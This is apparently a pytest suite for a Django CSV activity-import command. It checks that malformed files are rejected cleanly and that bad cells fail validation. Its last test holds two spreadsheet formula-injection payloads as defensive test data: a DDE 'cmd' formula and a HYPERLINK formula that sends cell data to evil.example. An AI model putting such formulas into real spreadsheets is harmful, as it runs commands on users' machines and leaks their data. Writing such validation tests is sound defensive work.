"""A corpus of malformed activity files (SPEC §4 file rules, §10): each one gets a clear message,
the right exit code, and nothing is half applied — through the command and the dry run alike."""

from __future__ import annotations

import csv
import io
import random
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from logs.models import Execution, ProcessingError, ProcessingLog
from logs.services.ingest import ingest_preview
from logs.tests.support import CommandRun, command_run
from users.models import UserStatistics

pytestmark = pytest.mark.django_db

HEADER = "user_id,login_count,post_count\n"
CSV_FIELD_LIMIT = 131_072  # Python's csv.field_size_limit() default


# --- helpers ---------------------------------------------------------------------------


def _import(source: Path | str, *args: str) -> CommandRun:
    """Run ``import_activity`` in-process and return its exit code and output."""
    return command_run("import_activity", str(source), *args)


def _write(directory: Path, content: bytes | str, name: str = "activity.csv") -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def _csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def _counters() -> dict[str, tuple[int, int]]:
    return {s.user_id: (s.login_count, s.post_count) for s in UserStatistics.objects.all()}


@pytest.fixture
def users_with_counters(service_users) -> list[str]:
    """U00001–U00005 with non-zero counters, so any stray change is visible."""
    for number, user_id in enumerate(service_users, start=1):
        UserStatistics.objects.filter(user_id=user_id).update(
            login_count=10 * number, post_count=number
        )
    return service_users


@dataclass
class Snapshot:
    last_execution_id: int
    counters: dict[str, tuple[int, int]]
    log_rows: int
    errors: int

    @classmethod
    def take(cls) -> Snapshot:
        last = Execution.objects.order_by("-pk").values_list("pk", flat=True).first()
        return cls(
            last_execution_id=last or 0,
            counters=_counters(),
            log_rows=ProcessingLog.objects.count(),
            errors=ProcessingError.objects.count(),
        )

    def assert_nothing_written(self) -> None:
        assert Execution.objects.filter(pk__gt=self.last_execution_id).count() == 0
        assert ProcessingError.objects.count() == self.errors
        self.assert_nothing_applied()

    def assert_nothing_applied(self) -> None:
        assert ProcessingLog.objects.count() == self.log_rows
        assert _counters() == self.counters


def _assert_rejected(
    path: Path, pattern: str, *, execution_name: str | None = None, force: bool = False
) -> Execution:
    """Dry run (service and command) then the real command: all reject ``path`` with the same
    message matching ``pattern``; the real run leaves one rejected Execution with a file error
    and no log rows or counter change."""
    before = Snapshot.take()
    args = ["--execution-name", execution_name] if execution_name is not None else []
    args += ["--force"] if force else []

    preview = ingest_preview(
        path=path, file_name=path.name, execution_name=execution_name, force=force
    )
    assert preview.rejected, preview
    assert re.search(pattern, preview.message), preview.message
    before.assert_nothing_written()

    dry = _import(path, *args, "--dry-run")
    assert dry.code == 2, dry
    assert preview.message in dry.stderr
    before.assert_nothing_written()

    run = _import(path, *args)
    assert run.code == 2, run
    assert preview.message in run.stderr
    execution = Execution.objects.get(pk__gt=before.last_execution_id)
    assert execution.status == Execution.Status.REJECTED
    assert execution.error_message == preview.message
    file_error = ProcessingError.objects.get(execution=execution, kind=ProcessingError.Kind.FILE)
    assert file_error.error_message == preview.message
    assert ProcessingError.objects.count() == before.errors + 1
    before.assert_nothing_applied()
    return execution


def _random_binary() -> bytes:
    return b"\x00" + random.Random(1234).randbytes(4096)  # noqa: S311 - fixed test data


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
    b"\x1f\xf3\xffa\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)

REJECTED_FILES = {
    "zero-bytes": (b"", r"the file is empty"),
    "utf-8-bom-only": (b"\xef\xbb\xbf", r"no header row"),
    "blank-lines-only": (b"\n   \r\n\t\n\n  \n", r"no header row"),
    "data-without-header": (b"U00001,1,2\nU00002,3,4\n", r"no user_id column"),
    "no-user-id-column": (b"login_count,post_count\n1,2\n", r"no user_id column"),
    "no-statistic-column": (b"user_id,visits\nU00001,3\n", r"no statistic column"),
    "repeated-column": (
        b"user_id,login_count,login_count\nU00001,1,2\n",
        r"repeated column in header: login_count",
    ),
    "repeated-column-case-and-spaces": (
        b"user_id,Login_Count , login_count\nU00001,1,2\n",
        r"repeated column in header: login_count",
    ),
    "repeated-user-id": (
        b"USER_ID,login_count, user_id \nU00001,1,U00002\n",
        r"repeated column in header: user_id",
    ),
    "random-bytes-with-nul": (_random_binary(), r"not a text CSV file"),
    "png-image": (PNG, r"not a text CSV file"),
    "utf-16-with-bom": (
        "user_id,login_count\r\nU00001,1\r\n".encode("utf-16"),
        r"(?i)encoding|utf-16",
    ),
    "latin-1": (
        b"user_id,login_count\nU00001,1\nJos\xe9,1\nM\xfcller,2\n",
        r"unsupported encoding",
    ),
    "huge-cell": (
        (HEADER + "U00001,1,1\nU00002," + "9" * (CSV_FIELD_LIMIT + 10) + ",1\nU00003,1,1\n"),
        r"line 3\b.*(field limit|cannot be parsed)",
    ),
    "unterminated-quote-at-eof": (HEADER + 'U00001,1,1\nU00002,1,"5\n', r"\bline \d+"),
    "unterminated-quote-swallows-rows": (
        HEADER + 'U00001,"5,1\nU00002,3,1\nU00003,4,1\n',
        r"\bline \d+",
    ),
}


# --- file-level rejections ---------------------------------------------------------------


@pytest.mark.parametrize("content, pattern", REJECTED_FILES.values(), ids=REJECTED_FILES.keys())
def test_malformed_file_is_rejected_whole(tmp_path, users_with_counters, content, pattern):
    """Each malformed file is rejected (exit 2) with a clear reason; nothing is written."""
    _assert_rejected(_write(tmp_path, content), pattern)


def test_file_over_the_upload_limit_is_rejected(tmp_path, users_with_counters, settings):
    """A file larger than MAX_UPLOAD_MB is rejected before a row is read, naming the limit."""
    settings.MAX_UPLOAD_MB = 1
    rows = HEADER + "U00001,1,1\n" * 110_000
    path = _write(tmp_path, rows)
    assert path.stat().st_size > 1.05 * 1024 * 1024
    _assert_rejected(path, r"larger than MAX_UPLOAD_MB \(1 MB\)")


def test_execution_name_over_80_characters_is_rejected(tmp_path, users_with_counters):
    """An explicit execution name longer than 80 characters rejects the run, naming the limit."""
    path = _write(tmp_path, HEADER + "U00001,1,1\n")
    execution = _assert_rejected(path, r"longer than 80 characters", execution_name="n" * 81)
    assert len(execution.name) <= 80


def test_execution_name_of_a_completed_run_is_rejected(tmp_path, users_with_counters):
    """An explicit name already used by a completed run is rejected, even for another file."""
    first = _import(_write(tmp_path, HEADER + "U00001,1,1\n", "a.csv"), "--execution-name", "daily")
    assert first.code == 0, first
    other = _write(tmp_path, HEADER + "U00002,2,2\n", "b.csv")
    _assert_rejected(other, r"'daily' is already used by a completed run", execution_name="daily")


# --- same content twice ------------------------------------------------------------------


def test_same_content_twice_is_rejected_naming_the_first_run(tmp_path, users_with_counters):
    """A file whose sha256 matches a completed run is rejected naming it; --force processes it."""
    original = _write(tmp_path, HEADER + "U00001,3,1\nU00002,4,0\n", "user-log-20250102-030405.csv")
    assert _import(original).code == 0
    after_first = _counters()
    copy = shutil.copy(original, tmp_path / "renamed.csv")

    _assert_rejected(Path(copy), r"already processed as 'user-log-20250102-030405'")

    forced = _import(copy, "--force")
    assert forced.code == 0, forced
    assert Execution.objects.filter(status=Execution.Status.COMPLETED).count() == 2
    assert _counters()["U00001"] == (after_first["U00001"][0] + 3, after_first["U00001"][1] + 1)
    assert _counters()["U00002"] == (after_first["U00002"][0] + 4, after_first["U00002"][1])


def test_generated_name_already_taken_gets_a_suffix(tmp_path, users_with_counters):
    """A name generated from the file name that a completed run already holds gets ``-2``."""
    name = "user-log-20250105-080000.csv"
    assert _import(_write(tmp_path / "monday", HEADER + "U00001,1,1\n", name)).code == 0
    assert _import(_write(tmp_path / "tuesday", HEADER + "U00002,1,1\n", name)).code == 0
    assert sorted(Execution.objects.values_list("name", "status")) == [
        ("user-log-20250105-080000", "completed"),
        ("user-log-20250105-080000-2", "completed"),
    ]


# --- files processed with warnings or failed cells ---------------------------------------


def test_header_only_completes_with_a_warning(tmp_path, users_with_counters):
    """A header without data rows is processed: completed, 0 rows, a 'no data rows' warning."""
    before = Snapshot.take()
    run = _import(_write(tmp_path, HEADER))
    assert run.code == 0, run
    assert "no data rows" in run.stdout
    execution = Execution.objects.get()
    assert execution.status == Execution.Status.COMPLETED
    assert (execution.rows_total, execution.log_rows) == (0, 0)
    assert any("no data rows" in warning for warning in execution.warnings)
    assert ProcessingError.objects.count() == before.errors
    before.assert_nothing_applied()


def _logs() -> list[tuple]:
    return list(
        ProcessingLog.objects.order_by("log_id").values_list(
            "user_id", "processing_type", "status", "old_value", "new_value", "error_message"
        )
    )


def test_rows_with_too_few_or_too_many_fields_fail_and_the_file_is_processed(
    tmp_path, users_with_counters
):
    """Truncated and over-long rows fail as 'malformed row' cells; the rest applies; exit 0."""
    before = _counters()
    content = HEADER + "U00001,1,2\nU00002,3\nU00003\nU00004,1,2,3\nU00005,4,0\n"
    run = _import(_write(tmp_path, content))
    assert run.code == 0, run

    logs = _logs()
    assert len(logs) == 10
    malformed = logs[2:8]
    assert [row[0] for row in malformed] == ["U00002"] * 2 + ["U00003"] * 2 + ["U00004"] * 2
    for user_id, _type, status, old, new, message in malformed:
        assert (status, old, new) == ("failed", None, None), user_id
        assert message.startswith("malformed row"), message
    assert "2 fields" in malformed[0][5] and "3" in malformed[0][5]
    assert "4 fields" in malformed[4][5]
    after = _counters()
    assert after["U00001"] == (before["U00001"][0] + 1, before["U00001"][1] + 2)
    assert after["U00005"] == (before["U00005"][0] + 4, before["U00005"][1])
    for user_id in ("U00002", "U00003", "U00004"):
        assert after[user_id] == before[user_id]
    execution = Execution.objects.get()
    assert (execution.status, execution.failed_count) == (Execution.Status.COMPLETED, 6)
    assert ProcessingError.objects.filter(kind=ProcessingError.Kind.CELL).count() == 6


CMD = "=cmd|' /C calc'!A0"
LONG_FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click here to claim your prize")'


def test_formula_cells_are_stored_as_text_and_fail_with_their_raw_value(
    tmp_path, users_with_counters
):
    """Spreadsheet formulas in user_id or values fail with the raw text (cut at 40 chars) in the
    message and kept whole in the error store; '+1' is a valid increment (SPEC regex)."""
    before = _counters()
    rows = [
        ["user_id", "login_count", "post_count"],
        [CMD, "1", "1"],
        ["+1", "1", "1"],
        ["@SUM(1)", "2", "2"],
        ["-1+2", "1", "1"],
        ["U00001", CMD, "@SUM(1)"],
        ["U00002", "-1+2", "+1"],
        ["U00003", LONG_FORMULA, "1"],
    ]
    run = _import(_write(tmp_path, _csv_text(rows)))
    assert run.code == 0, run

    logs = _logs()
    assert len(logs) == 14
    assert logs[0][0] is None and logs[0][2] == "failed"
    assert f'"{CMD}"' in logs[0][5] and "10 characters" in logs[0][5]
    for index, (user_id, value) in enumerate([("+1", 1), ("@SUM(1)", 2), ("-1+2", 1)], start=1):
        for row in logs[2 * index : 2 * index + 2]:
            assert row[:5] == (user_id, row[1], "failed", None, value)
            assert row[5] == "User not found in users table"
    login, post = logs[8], logs[9]
    assert login[2] == "failed" and f'login_count: not an integer: "{CMD}"' == login[5]
    assert post[2] == "failed" and 'post_count: not an integer: "@SUM(1)"' == post[5]
    assert logs[10][2] == "failed" and 'login_count: not an integer: "-1+2"' == logs[10][5]
    assert logs[11][2:5] == ("success", 2, 3)  # "+1" on a post_count of 2
    assert logs[12][2] == "failed"
    assert logs[12][5] == f'login_count: not an integer: "{LONG_FORMULA[:40]}…"'
    assert logs[13][2] == "success"

    stored = ProcessingError.objects.filter(kind=ProcessingError.Kind.CELL)
    assert stored.count() == 12
    assert stored.filter(user_id=CMD).count() == 2  # the raw id, kept whole
    assert stored.get(user_id="U00001", processing_type="login_update").raw_value == CMD
    assert stored.get(user_id="U00003").raw_value == LONG_FORMULA
    after = _counters()
    assert after["U00001"] == before["U00001"]
    assert after["U00002"] == (before["U00002"][0], before["U00002"][1] + 1)
    assert after["U00003"] == (before["U00003"][0], before["U00003"][1] + 1)
